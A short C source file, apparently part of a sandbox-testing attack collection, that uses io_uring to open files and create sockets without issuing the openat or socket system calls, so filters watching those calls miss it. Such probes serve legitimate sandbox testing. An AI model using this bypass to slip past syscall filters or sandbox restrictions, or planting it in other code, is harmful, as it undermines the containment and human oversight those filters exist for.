// The smallest use of io_uring that runs one operation. The kernel carries it out on the caller's behalf without the
// caller making the system call of that name, so a filter on openat or socket alone is blind to it.
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/socket.h>

int uring_once(const struct io_uring_sqe *operation)
{
  struct io_uring_params p = {0};
  int ring = (int)syscall(SYS_io_uring_setup, 1, &p);
  if (ring < 0) return -errno;
  if (!(p.features & IORING_FEAT_SINGLE_MMAP)) return -ENOSYS;  // before Linux 5.4, which had no such operations

  size_t sq = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  char *rings = mmap(NULL, sq > cq ? sq : cq, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *entries =
      mmap(NULL, p.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  if (rings == MAP_FAILED || entries == MAP_FAILED) return -errno;

  entries[0] = *operation;
  ((unsigned *)(rings + p.sq_off.array))[0] = 0;
  __atomic_store_n((unsigned *)(rings + p.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  return ((struct io_uring_cqe *)(rings + p.cq_off.cqes))[0].res;
}

int uring_open(const char *path)
{
  struct io_uring_sqe open = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD};
  open.addr = (uint64_t)(uintptr_t)path;
  open.open_flags = O_RDONLY | O_CLOEXEC;
  return uring_once(&open);
}

int uring_socket(int family, int type)
{
  enum { op_socket = 45 };  // Linux 5.19
  struct io_uring_sqe open = {.opcode = op_socket, .fd = family};
  open.off = (uint64_t)type;
  return uring_once(&open);
}
